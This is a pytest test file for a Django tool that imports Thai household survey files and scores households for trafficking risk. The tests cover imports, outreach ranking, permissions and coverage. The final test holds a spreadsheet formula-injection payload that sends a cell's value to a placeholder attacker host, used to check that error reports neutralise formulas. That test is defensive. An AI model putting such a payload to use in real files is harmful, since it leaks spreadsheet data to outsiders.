import csv
import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from saphan.network.households import pipeline, scoring
from saphan.network.households.generate import generate_survey
from saphan.network.households.services import (
    household_import_execute,
    household_import_start,
    household_upload,
    risk_weights_set,
)
from saphan.network.models import Household, HouseholdImport, Visit
from saphan.network.services import household_visit_assign, visit_record

HEADER = ["รหัสบ้าน", "ปีสำรวจ", "รหัสหมู่บ้าน", "อายุ", "เพศ", "กำลังเรียน", "มีงานทำ", "รายได้",
          "ด้านสุขภาพ", "ด้านความเป็นอยู่", "ด้านการศึกษา", "ด้านรายได้", "ด้านการเข้าถึงบริการรัฐ",
          "บัตรสวัสดิการ"]  # fmt: skip
ROWS = [
    ["H1", "2567", "40010103", "45", "ชาย", "", "0", "30000", "1", "1", "0", "1", "0", "1"],
    ["H1", "2567", "40010103", "14", "หญิง", "0", "0", "30000", "1", "1", "0", "1", "0", "1"],
    ["H2", "2567", "40010103", "38", "หญิง", "", "1", "300000", "0", "0", "0", "0", "0", "0"],
    ["H3", "2567", "40010201", "60", "ชาย", "", "1", "50000", "0", "1", "0", "0", "1", "0"],
]  # fmt: skip


def csv_bytes(rows, encoding="utf-8") -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(HEADER)
    w.writerows(rows)
    return buf.getvalue().encode(encoding)


def do_import(actor, data: bytes, name="survey.csv") -> HouseholdImport:
    imp = household_upload(actor=actor, name=name, chunks=[data])
    household_import_start(actor=actor, imp=imp, mapping=imp.mapping)
    return household_import_execute(str(imp.pk))


@pytest.mark.parametrize("encoding", ["utf-8", "tis-620"])
def test_import_sums_members_to_scored_households_in_either_encoding(
    net, encoding, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=False):
        imp = do_import(net["sup"], csv_bytes(ROWS, encoding))
    assert imp.status == "done", imp.message
    assert (imp.rows_total, imp.households, imp.created) == (4, 3, 3)
    assert imp.encoding == ("utf-8" if encoding == "utf-8" else "tis-620")
    h1 = Household.objects.get(household_code="H1", survey_year=2567)
    assert (h1.members, h1.children, h1.children_out_of_school, h1.adults_without_work) == (
        2,
        1,
        1,
        1,
    )
    assert (h1.income_per_person, h1.subdistrict_code, h1.province_code) == (15000, "400101", "40")
    w = scoring.weights()
    expected = sum(w[k] for k in ("deprived_health", "deprived_living", "deprived_income", "low_income",
                                  "welfare_card", "children_out_of_school", "adults_without_work"))  # fmt: skip
    assert h1.score == pytest.approx(expected)
    assert Household.objects.get(household_code="H2").score == 0


def test_reimport_updates_without_duplicates(net, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):
        do_import(net["sup"], csv_bytes(ROWS))
        changed = [r[:7] + ["900000"] + r[8:] if r[0] == "H1" else r for r in ROWS]
        imp = do_import(net["sup"], csv_bytes(changed))
    assert (imp.created, imp.updated) == (0, 3)
    assert Household.objects.count() == 3
    assert Household.objects.get(household_code="H1").income_per_person == 450000


def test_broken_rows_import_nothing_and_the_report_names_them(
    net, django_capture_on_commit_callbacks
):
    bad = ROWS + [
        ["", "2567", "40010103", "30", "1", "", "1", "1000", "0", "0", "0", "0", "0", "0"],
        ["H9", "67", "4001", "abc", "x", "2", "1", "-5", "0", "0", "0", "0", "0", "0"],
        ["H3", "2567", "40010202", "20", "1", "", "1", "50000", "0", "1", "0", "0", "1", "0"],
    ]  # fmt: skip
    with django_capture_on_commit_callbacks(execute=False):
        imp = do_import(net["sup"], csv_bytes(bad))
    assert imp.status == "failed" and not Household.objects.exists()
    report = open(imp.errors_path, encoding="utf-8-sig").read()
    assert imp.error_count >= 7
    lines = report.splitlines()
    assert any(line.startswith("6,") for line in lines)  # row 6: empty household id
    assert "พ.ศ." in report or "2567" in report  # Thai message for the year
    assert any(line.startswith("5,") for line in lines)  # H3 changes village on row 8


def test_xlsx_and_a_file_that_is_not_a_table(net, django_capture_on_commit_callbacks):
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for r in ROWS:
        ws.append([int(v) if v.isdigit() else v for v in r])
    buf = io.BytesIO()
    wb.save(buf)
    with django_capture_on_commit_callbacks(execute=False):
        imp = do_import(net["sup"], buf.getvalue(), name="survey.xlsx")
    assert imp.status == "done" and imp.households == 3
    with pytest.raises(ValidationError):
        household_upload(actor=net["sup"], name="x.pdf", chunks=[b"%PDF"])


def test_who_may_import_and_set_weights(net):
    for who in ("cw", "vol"):
        with pytest.raises(PermissionDenied):
            household_upload(actor=net[who], name="s.csv", chunks=[csv_bytes(ROWS)])
    with pytest.raises(PermissionDenied):
        risk_weights_set(actor=net["sup"], values={"debt": 1})


def test_weights_and_visit_findings_change_scores(net, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):
        do_import(net["sup"], csv_bytes(ROWS))
    h2 = Household.objects.get(household_code="H2")
    visit = household_visit_assign(actor=net["cw"], household=h2, volunteer=net["vol"], purpose="")
    from django.utils import timezone

    visit_record(actor=net["vol"], visit=visit, done_on=timezone.localdate(), findings="ลูกถูกชวนไปทำงานผ่านเฟซบุ๊ก",
                 risk_factors=["recruited_online"])  # fmt: skip
    h2.refresh_from_db()
    assert h2.score == pytest.approx(scoring.weights()["visit_recruited_online"])
    risk_weights_set(actor=net["central"], values={"visit_recruited_online": 10})
    h2.refresh_from_db()
    assert h2.score == 10
    with pytest.raises(ValidationError):
        risk_weights_set(actor=net["central"], values={"visit_recruited_online": -1})


def test_outreach_list_ranks_explains_and_assigns(client, net, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):
        do_import(net["sup"], csv_bytes(ROWS))
    client.force_login(net["sup"])
    r = client.get(reverse("network:outreach"), {"level": "subdistrict", "code": "400101"})
    assert r.status_code == 200
    assert r.text.index(">H1<") < r.text.index(">H2<")  # highest score first
    assert "×" in r.text  # the weight beside each factor
    h1 = Household.objects.get(household_code="H1")
    r = client.post(reverse("network:outreach") + "?level=subdistrict&code=400101",
                    {"household": [h1.id], "volunteer": str(net["vol"].pk)})  # fmt: skip
    assert r.status_code == 302 and Visit.objects.get(household=h1).assigned_to == net["vol"]
    cov = client.get(reverse("network:coverage"))
    assert "coverage-table" in cov.text and "ในเมือง" in cov.text
    client.force_login(net["vol"])
    assert client.get(reverse("network:outreach")).status_code == 403
    client.force_login(net["cw_tak"])  # another province sees nothing of Khon Kaen
    r = client.get(reverse("network:outreach"), {"level": "subdistrict", "code": "400101"})
    assert ">H1<" not in r.text


def test_upload_mapping_and_progress_pages(client, net, django_capture_on_commit_callbacks):
    client.force_login(net["sup"])
    r = client.post(
        reverse("network:household_imports"), {"file": SimpleUploadedFile("s.csv", csv_bytes(ROWS))}
    )
    imp = HouseholdImport.objects.get()
    assert r.status_code == 302 and imp.mapping["household_id"] == "รหัสบ้าน"
    page = client.get(reverse("network:household_import", args=[imp.pk]))
    assert "mapping-form" in page.text
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.post(reverse("network:household_import", args=[imp.pk]), {**imp.mapping})
    assert len(callbacks) == 1  # the background task is queued after commit
    imp.refresh_from_db()
    assert imp.status == "queued"
    progress = client.get(
        reverse("network:household_import", args=[imp.pk]), headers={"HX-Request": "true"}
    )
    assert 'hx-trigger="every 1s"' in progress.text


def test_generator_writes_a_file_the_pipeline_reads(net, tmp_path):
    path = str(tmp_path / "gen.csv")
    rows = generate_survey(path, households=200, villages=["40010101", "40010102"])
    result = pipeline.run(csv_path=path, mapping=pipeline.guess_mapping(pipeline.read_columns(path)),
                          errors_dir=str(tmp_path))  # fmt: skip
    assert result.errors == 0 and result.households == 200 and result.rows == rows


def test_village_of_origin_of_identified_victims_counts(net, django_capture_on_commit_callbacks):
    from django.utils import timezone

    from saphan.cases.models import IdentificationDecision
    from saphan.orgs.tests.factories import CaseFactory, CasePartyFactory, PersonFactory

    def victim_case(village: str, *, approved: bool):
        case = CaseFactory(
            province=net["kk"], agency=net["psdhs"], trafficking_status="ActualVictimOfTrafficking"
        )
        CasePartyFactory(case=case, person=PersonFactory(home_village_code=village))
        now = timezone.now()
        IdentificationDecision.objects.create(
            case=case, status="ActualVictimOfTrafficking", deciding_org="MDT", decided_at=now,
            reasons="r", recorded_by=net["sup"],
            approved_by=net["sup"] if approved else None, approved_at=now if approved else None,
        )  # fmt: skip

    victim_case("40010103", approved=True)
    # Marked "actual victim" but the decision is not yet approved: no one is identified there
    # (the same rule as the national indicators, process.identified_cases_sql).
    victim_case("40010101", approved=False)
    assert pipeline.victim_villages() == ["40010103"]
    with django_capture_on_commit_callbacks(execute=False):
        do_import(net["sup"], csv_bytes(ROWS))
    w = scoring.weights()
    assert Household.objects.get(household_code="H2").score == pytest.approx(w["victim_village"])
    assert (
        Household.objects.get(household_code="H3").score
        < Household.objects.get(household_code="H1").score
    )
    assert pipeline.victim_villages(among=["40010201"]) == []


def _households(path, tmp_path, monkeypatch=None, fast=True):
    import duckdb

    mapping = pipeline.guess_mapping(pipeline.read_columns(path))
    con = duckdb.connect()
    result = pipeline.Result()
    if fast:
        assert pipeline._fast_pass(con, path, mapping, result)
    else:
        assert not pipeline._validate(con, path, mapping, result, str(tmp_path))
        con.execute(
            f"CREATE TABLE hh AS WITH members AS ({pipeline.members_sql(mapping)}) "
            f"{pipeline.HH_SQL}"
        )
    rows = con.execute("SELECT * FROM hh ORDER BY household_code").fetchall()
    con.close()
    return rows, result.rows


def test_the_one_pass_roll_up_equals_the_row_by_row_one(tmp_path):
    path = str(tmp_path / "gen.csv")
    generate_survey(path, households=300, villages=["40010101", "40010102"])
    fast, fast_rows = _households(path, tmp_path, fast=True)
    slow, slow_rows = _households(path, tmp_path, fast=False)
    assert fast == slow and len(fast) == 300 and fast_rows == slow_rows


@pytest.mark.parametrize(
    "cell, value",
    [(0, " H1"), (5, "01"), (3, "4 5"), (2, "40010103 "), (7, "")],
    ids=["spaces-around-the-id", "flag-01", "age-with-a-space", "village-space", "no-income"],
)
def test_a_doubtful_value_goes_to_the_row_by_row_check(db, tmp_path, cell, value):
    """The one-pass roll-up accepts nothing that the row-by-row validation would refuse: any
    doubt sends the file there, which decides (spaces around a value are trimmed; '01' is no
    flag)."""
    import duckdb

    rows = [list(r) for r in ROWS]
    rows[1][cell] = value
    path = tmp_path / "s.csv"
    path.write_bytes(csv_bytes(rows))
    mapping = pipeline.guess_mapping(pipeline.read_columns(str(path)))
    con = duckdb.connect()
    assert not pipeline._fast_pass(con, str(path), mapping, pipeline.Result())
    result = pipeline.run(csv_path=str(path), mapping=mapping, errors_dir=str(tmp_path))
    refused = cell in (5, 3, 7)
    assert bool(result.errors) == refused


def test_a_large_first_load_builds_the_indexes_after_the_copy(net, tmp_path, monkeypatch):
    from django.db import connection

    def indexes():
        with connection.cursor() as cur:
            cur.execute(
                "SELECT indexname, indexdef FROM pg_indexes WHERE tablename = 'network_household'"
            )
            return dict(cur.fetchall())

    before = indexes()
    monkeypatch.setattr(pipeline, "REBUILD_INDEXES_FROM", 100)
    executed = []
    real_copy = pipeline._copy

    def spy(cur, table, cols, csv_path):
        cur.execute("SELECT count(*) FROM pg_indexes WHERE tablename = 'network_household'")
        executed.append(cur.fetchone()[0])
        real_copy(cur, table, cols, csv_path)

    monkeypatch.setattr(pipeline, "_copy", spy)
    path = str(tmp_path / "gen.csv")
    generate_survey(path, households=400, villages=["40010101", "40010102"])
    mapping = pipeline.guess_mapping(pipeline.read_columns(path))
    result = pipeline.run(csv_path=path, mapping=mapping, errors_dir=str(tmp_path))
    assert (result.created, result.updated) == (400, 0)
    assert executed == [1]  # only the primary key during the COPY
    assert indexes() == before  # every index and the unique constraint are back, the same
    again = pipeline.run(csv_path=path, mapping=mapping, errors_dir=str(tmp_path))
    assert (again.created, again.updated) == (0, 400)
    assert Household.objects.count() == 400


def test_coverage_by_village_subdistrict_district_and_the_province_map(
    client, net, django_capture_on_commit_callbacks
):
    import json

    from django.core.cache import cache

    from saphan.network.households import selectors

    cache.clear()
    with django_capture_on_commit_callbacks(execute=False):
        do_import(net["sup"], csv_bytes(ROWS))
    # Make H1 high risk, and visited.
    Household.objects.filter(household_code="H1").update(score=selectors.HIGH_RISK + 1)
    h1 = Household.objects.get(household_code="H1")
    visit = household_visit_assign(actor=net["sup"], household=h1, volunteer=net["vol"], purpose="")
    visit_record(actor=net["vol"], visit=visit, done_on=visit.created_at.date(), findings="พบ")
    by = {lvl: selectors.coverage(actor=net["sup"], level=lvl) for lvl in selectors.AREA_FIELDS}
    assert [
        (r["code"], r["n"], r["high"], r["done"], r["reached_pct"]) for r in by["district"]
    ] == [("4001", 3, 1, 1, 100)]
    assert [r["code"] for r in by["subdistrict"]] == ["400101", "400102"]
    assert [(r["code"], r["n"], r["done"]) for r in by["village"]] == [
        ("40010103", 2, 1), ("40010201", 1, 0)
    ]  # fmt: skip
    assert by["subdistrict"][0]["volunteers"] == 1
    assert selectors.coverage(actor=net["cw_tak"], level="village") == []
    client.force_login(net["sup"])
    page = client.get(reverse("network:coverage"), {"level": "village"})
    assert page.status_code == 200 and "40010103" in page.text
    charts = json.loads(
        page.text.split('id="insight-charts" type="application/json">')[1].split("</script>")[0]
    )
    chart = charts[0]
    assert chart["kind"] == "map" and "40" in chart["keys"]
    assert chart["series"][0]["values"][chart["keys"].index("40")] == 100.0
    assert 'id="insight-map-svg"' in page.text and "insight/dashboard.js" in page.text


def test_a_row_of_another_province_is_refused_with_its_row_named(
    client, net, django_capture_on_commit_callbacks
):
    """A Khon Kaen supervisor's file with a Tak village (63…) on one row loads nothing; the
    report names that row in Thai; a central officer may load the same file."""
    tak_row = [
        "H7",
        "2567",
        "63010101",
        "30",
        "หญิง",
        "",
        "1",
        "40000",
        "0",
        "0",
        "0",
        "0",
        "0",
        "0",
    ]
    data = csv_bytes(ROWS + [tak_row])
    with django_capture_on_commit_callbacks(execute=False):
        imp = do_import(net["sup"], data)
    assert imp.status == "failed" and not Household.objects.exists()
    client.force_login(net["sup"])
    response = client.get(reverse("network:household_import_errors", args=[imp.pk]))
    report = b"".join(response.streaming_content).decode("utf-8-sig")
    lines = report.splitlines()
    assert len(lines) == 2 and lines[1].startswith("6,")  # row 6 of the file: the Tak village
    assert "63010101" in lines[1] and "จังหวัดอื่น" in lines[1]
    with django_capture_on_commit_callbacks(execute=False):
        imp = do_import(net["central"], data)
    assert imp.status == "done", imp.message
    assert Household.objects.filter(province_code="63").count() == 1


def test_the_error_report_neutralises_formulas(client, net, django_capture_on_commit_callbacks):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    row = [evil, "2567", "40010103", "30", "หญิง", "", "1", "-5", "0", "0", "0", "0", "0", "0"]
    with django_capture_on_commit_callbacks(execute=False):
        imp = do_import(net["sup"], csv_bytes([row, ["H2", "2567", "@SUM(1)", *row[3:]]]))
    client.force_login(net["sup"])
    response = client.get(reverse("network:household_import_errors", args=[imp.pk]))
    cells = [
        c for r in csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
        for c in r
    ]  # fmt: skip
    assert "'" + evil in cells and "'-5" in cells and "'@SUM(1)" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
